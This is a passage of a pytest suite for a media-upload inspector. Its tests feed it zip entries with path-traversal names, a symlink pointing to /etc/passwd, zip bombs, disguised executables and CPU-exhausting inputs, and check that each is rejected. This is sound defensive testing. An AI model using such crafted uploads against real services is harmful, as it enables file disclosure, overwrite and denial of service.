    assert rejected(tmp_path, "essay", docx).reason == NOT_ACCEPTED.format("a Word document")
    jar = zip_bytes({"META-INF/MANIFEST.MF": b"Manifest-Version: 1.0\n", "A.class": b"\xca\xfe"})
    assert rejected(tmp_path, "app", jar).reason == NOT_ACCEPTED.format("a Java archive")


@pytest.mark.parametrize(
    "name",
    ["../evil.txt", "deck/../../evil.txt", "/etc/evil.txt", "..\\evil.txt", "C:\\evil.txt"],
)
def test_zip_with_an_unsafe_path_is_rejected(tmp_path: Path, name: str) -> None:
    result = rejected(tmp_path, "slides.zip", zip_bytes({"ok.txt": b"fine", name: b"evil"}))
    assert result.reason == f"The archive entry {name!r} has an unsafe path."
    assert result.content_type == "application/zip"


def test_zip_with_a_symlink_is_rejected(tmp_path: Path) -> None:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        link = zipfile.ZipInfo("slide.png")
        link.create_system = 3
        link.external_attr = (stat.S_IFLNK | 0o777) << 16
        archive.writestr(link, "/etc/passwd")
    result = rejected(tmp_path, "slides.zip", out.getvalue())
    assert result.reason == "The archive entry 'slide.png' is a symbolic link."


def test_zip_with_an_encrypted_entry_is_rejected(tmp_path: Path) -> None:
    data = bytearray(zip_bytes({"slide.txt": b"secret"}))
    central = data.find(b"PK\x01\x02")
    data[central + 8] |= 0x01  # "encrypted" in the central directory's flags
    result = rejected(tmp_path, "slides.zip", bytes(data))
    assert result.reason == "The archive entry 'slide.txt' is encrypted."


def test_zip_bomb_by_compression_ratio(tmp_path: Path) -> None:
    data = zip_bytes({"big.txt": b"a" * (4 * 1024 * 1024)})
    assert len(data) < 20_000
    assert "zip bomb" in (rejected(tmp_path, "slides.zip", data).reason or "")


def test_zip_bomb_by_declared_sizes(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(documents, "MAX_ARCHIVE_BYTES", 1024)
    data = zip_bytes({"a.txt": b"x" * 600, "b.txt": b"y" * 600}, zipfile.ZIP_STORED)
    result = rejected(tmp_path, "slides.zip", data)
    assert result.reason == "The archive would expand to more than 1 KiB."


def test_zip_with_too_many_entries(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(documents, "MAX_ARCHIVE_ENTRIES", 2)
    data = zip_bytes({f"{n}.txt": b"slide" for n in range(3)})
    assert rejected(tmp_path, "slides.zip", data).reason == "The archive holds more than 2 entries."


@pytest.mark.parametrize(
    ("name", "data", "what"),
    [
        ("tool.exe", PE, "ends in .exe, which is not accepted."),
        ("tool.png", PE, "is a Windows executable; a zip of slides may hold only"),
        ("page.txt", HTML, "is an HTML document;"),
        ("inner.zip", zip_bytes({"a.txt": b"a"}), "is a zip archive;"),
        ("song.mp3", MP3_FRAME * 3, "is an MP3 audio file;"),
        ("slide.png", b"just text", "is named .png but its contents are plain text."),
        ("slide.svg", b"plain words", "ends in .svg, which is not accepted."),
        ("empty.txt", b"", "is an empty file;"),
    ],
)
def test_zip_with_a_file_that_is_not_a_slide(
    tmp_path: Path, name: str, data: bytes, what: str
) -> None:
    archive = zip_bytes({"01.png": image_bytes("PNG", (4, 4)), f"deck/{name}": data})
    result = rejected(tmp_path, "slides.zip", archive)
    assert (result.reason or "").startswith(f"The archive entry 'deck/{name}' {what}")


@pytest.mark.parametrize(
    ("name", "data", "what"),
    [
        ("deck/evil.url", SHORTCUT, "ends in .url, which is not accepted."),
        ("deck/tweak.reg", b"Windows Registry Editor Version 5.00\r\n", "ends in .reg,"),
        ("deck/run.sh", b"#!/bin/sh\n", "ends in .sh,"),
        ("deck/desktop.ini", b"[.ShellClassInfo]\r\n", "ends in .ini,"),
        ("deck/README", b"plain words", "has no extension; plain text must end in .txt,"),
        ("deck/01", image_bytes("PNG", (4, 4)), "has no extension; a PNG image must end in .png."),
        # Litter is skipped only when its bytes are what its name says.
        ("__MACOSX/run.bat", b"@echo off\r\n", "ends in .bat,"),
        ("__MACOSX/deck/._01.png", b"not a resource fork", "is named .png but its contents"),
        ("deck/.DS_Store", b"[InternetShortcut]\r\n", "ends in .ds_store,"),
        ("Thumbs.db", b"plain words", "ends in .db,"),
    ],
)
def test_zip_members_follow_the_same_allow_lists(
    tmp_path: Path, name: str, data: bytes, what: str
) -> None:
    archive = zip_bytes({"deck/01.png": image_bytes("PNG", (4, 4)), name: data})
    result = rejected(tmp_path, "slides.zip", archive)
    assert (result.reason or "").startswith(f"The archive entry {name!r} {what}"), result.reason


def test_zip_without_files_is_rejected(tmp_path: Path) -> None:
    data = zip_bytes({"deck/": b"", "__MACOSX/._deck": APPLE_DOUBLE})
    assert rejected(tmp_path, "slides.zip", data).reason == "The archive holds no files."


def test_damaged_zip_is_rejected(tmp_path: Path) -> None:
    result = rejected(tmp_path, "slides.zip", b"PK\x03\x04" + b"garbage" * 50)
    assert result.reason == "The file looks like a zip archive but is damaged or incomplete."


# Damage: whatever a parser raises rejects the file at once, in words ----------------------

DAMAGED_ZIP = "The file looks like a zip archive but is damaged or incomplete."
NOTES = b"# Notes\n" + bytes(range(32, 127)) * 200  # longer than the bytes sniffed per entry


def corrupt_member_zip(compression: int, *, keep: int = 0) -> bytes:
    """A zip of slides whose deck/notes.md has its stored bytes flipped after the first
    ``keep`` (its header, its CRC and the other entry intact)."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", compression) as archive:
        archive.writestr("deck/01.png", image_bytes("PNG", (8, 8)))
        archive.writestr("deck/notes.md", NOTES)
    data = bytearray(out.getvalue())
    with zipfile.ZipFile(io.BytesIO(bytes(data))) as archive:
        info = archive.getinfo("deck/notes.md")
    name_length, extra_length = struct.unpack_from("<HH", data, info.header_offset + 26)
    start = info.header_offset + 30 + name_length + extra_length
    for position in range(start + keep, start + info.compress_size):
        data[position] ^= 0x55
    return bytes(data)


CORRUPT_MEMBERS = {
    # past the bytes sniffed: only reading the entry to its end (its CRC) shows the damage
    "stored-bad-crc-late": (corrupt_member_zip(zipfile.ZIP_STORED, keep=9000), "BadZipFile"),
    "deflate": (corrupt_member_zip(zipfile.ZIP_DEFLATED), "zlib.error"),
    "bzip2": (corrupt_member_zip(zipfile.ZIP_BZIP2), "OSError"),
    "lzma": (corrupt_member_zip(zipfile.ZIP_LZMA, keep=9), "LZMAError"),
}


@pytest.mark.parametrize(("data", "error"), CORRUPT_MEMBERS.values(), ids=list(CORRUPT_MEMBERS))
def test_a_zip_with_a_corrupt_member_is_rejected_as_damaged(
    tmp_path: Path, caplog: pytest.LogCaptureFixture, data: bytes, error: str
) -> None:
    caplog.set_level(logging.INFO, logger="ocp.media.inspect")
    result = rejected(tmp_path, "slides.zip", data)
    assert (result.reason, result.content_type) == (DAMAGED_ZIP, "application/zip")
    assert "damaged: " in caplog.text and error in caplog.text  # the details: the log only


def test_every_entry_of_a_pptx_is_read_in_full(tmp_path: Path) -> None:
    members = pptx_members(**{"ppt/media/image1.png": image_bytes("PNG", (4, 4)) * 50})
    data = bytearray(zip_bytes(members, zipfile.ZIP_STORED))
    data[data.rfind(b"IEND") - 40] ^= 0x55  # inside the image's stored bytes: only its CRC knows
    result = rejected(tmp_path, "talk.pptx", bytes(data))
    assert (
        result.reason
        == "The file looks like a PowerPoint presentation but is damaged or incomplete."
    )


def test_any_parser_exception_is_damage_and_stays_out_of_the_reason(
    tmp_path: Path, caplog: pytest.LogCaptureFixture, monkeypatch: pytest.MonkeyPatch
) -> None:
    def broken(path: Path, content_type: str, options: Any) -> Inspection:
        raise KeyError("internal-detail-42")

    monkeypatch.setitem(media_inspect._VALIDATORS, "image", broken)
    caplog.set_level(logging.INFO, logger="ocp.media.inspect")
    result = rejected(tmp_path, "photo.png", image_bytes("PNG"))
    assert result.reason == "The file looks like a PNG image but is damaged or incomplete."
    assert "KeyError" in caplog.text and "internal-detail-42" in caplog.text


@pytest.mark.parametrize(
    "error",
    [OSError(errno.EIO, "Input/output error"), OSError(errno.ENOSPC, "No space left on device")],
)
def test_failures_of_the_machine_are_raised_not_judged(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, error: OSError
) -> None:
    def failing(path: Path, content_type: str, options: Any) -> Inspection:
        raise error

    monkeypatch.setitem(media_inspect._VALIDATORS, "image", failing)
    with pytest.raises(OSError) as raised:
        run(tmp_path, "photo.png", image_bytes("PNG"))
    assert raised.value is error


def fake_ffprobe(folder: Path, body: str) -> str:
    script = folder / "ffprobe"
    script.write_text(f"#!/bin/sh\n{body}\n")
    script.chmod(script.stat().st_mode | stat.S_IEXEC)
    return str(script)


def test_a_missing_ffprobe_is_the_machine_s_failure(tmp_path: Path) -> None:
    with pytest.raises(FileNotFoundError):
        run(tmp_path, "tone.wav", wav_bytes(), ffprobe=str(tmp_path / "no-such-ffprobe"))


def test_an_ffprobe_that_spends_its_processor_time_rejects_the_file(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(audiovisual, "FFPROBE_CPU_SECONDS", 1)
    busy = fake_ffprobe(tmp_path, "while :; do :; done")
    result = rejected(tmp_path, "tone.wav", wav_bytes(), ffprobe=busy)
    assert (result.reason, result.content_type) == (media_inspect.TOO_COMPLEX, "audio/wav")


def test_an_ffprobe_that_waits_past_its_slack_is_the_machine_s_failure(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(audiovisual, "FFPROBE_CPU_SECONDS", 1)
    monkeypatch.setattr(audiovisual, "FFPROBE_SLACK_SECONDS", 1)
    idle = fake_ffprobe(tmp_path, "exec sleep 30")  # no processor time: a stalled machine
    with pytest.raises(MachineFault):
        run(tmp_path, "tone.wav", wav_bytes(), ffprobe=idle)


# The command line --------------------------------------------------------------------------


def cli(
    tmp_path: Path, filename: str, data: bytes, *extra: str
) -> subprocess.CompletedProcess[str]:
    upload = tmp_path / "upload.bin"
    upload.write_bytes(data)
    command = [sys.executable, "-m", "ocp.media.inspect", f"--filename={filename}"]
    command += [f"--thumbnail={tmp_path / 'thumb.jpg'}", *extra, "--", str(upload)]
    return subprocess.run(command, cwd=ROOT, capture_output=True, text=True, timeout=60)


def test_cli_prints_a_ready_result(tmp_path: Path) -> None:
    done = cli(tmp_path, "photo.png", image_bytes("PNG", (640, 480)))
    assert done.returncode == 0, done.stderr
    result = Inspection.from_dict(json.loads(done.stdout))
    assert (result.status, result.width, result.height, result.thumbnail) == (
        "ready",
        640,
        480,
        True,
    )
    assert thumbnail(tmp_path).size == (320, 240)


def test_cli_prints_a_rejection_and_exits_0(tmp_path: Path) -> None:
    done = cli(tmp_path, "photo.png", HTML)
    assert done.returncode == 0, done.stderr
    assert json.loads(done.stdout)["status"] == "rejected"


def test_cli_exits_1_on_an_unexpected_error(tmp_path: Path) -> None:
    upload = tmp_path / "upload.bin"
    upload.write_bytes(image_bytes("PNG"))
    command = [sys.executable, "-m", "ocp.media.inspect", "--filename=a.png"]
    command += [f"--thumbnail={tmp_path / 'missing' / 'thumb.jpg'}", str(upload)]
    done = subprocess.run(command, cwd=ROOT, capture_output=True, text=True, timeout=60)
    assert done.returncode == 1
    assert done.stdout == ""
    assert "FileNotFoundError" in done.stderr


def many_pages_pdf(pages: int) -> bytes:
    """A valid PDF of ``pages`` empty pages in one flat page tree: a few MB that take pypdf
    seconds of processor time to count."""
    kids = b" ".join(b"%d 0 R" % (n + 3) for n in range(pages))
    objects = [
        b"<</Type/Catalog/Pages 2 0 R>>",
        b"<</Type/Pages/Kids[%s]/Count %d>>" % (kids, pages),
    ]
    objects += [b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 1 1]>>"] * pages
    out = bytearray(b"%PDF-1.4\n")
    offsets = []
    for number, body in enumerate(objects, 1):
        offsets.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<</Size %d/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref)
    return bytes(out)


def test_cli_running_out_of_processor_time_ends_with_sigxcpu(tmp_path: Path) -> None:
    """The kernel's default action, even inside C code: the caller can tell it from a crash."""
    done = cli(tmp_path, "long.pdf", many_pages_pdf(50_000), "--max-cpu-seconds=1")
    assert done.returncode == -signal.SIGXCPU, (done.returncode, done.stdout, done.stderr)
    assert done.stdout == ""


def test_cli_memory_limit_stops_a_big_image(tmp_path: Path) -> None:
    big = image_bytes("PNG", (7000, 7000), mode="L")
    done = cli(tmp_path, "big.png", big, "--max-memory-mb=120")
    if done.returncode == 0:
        result = json.loads(done.stdout)
        assert result["status"] == "rejected"
        assert result["reason"] == media_inspect.TOO_COMPLEX
    assert not (tmp_path / "thumb.jpg").exists()
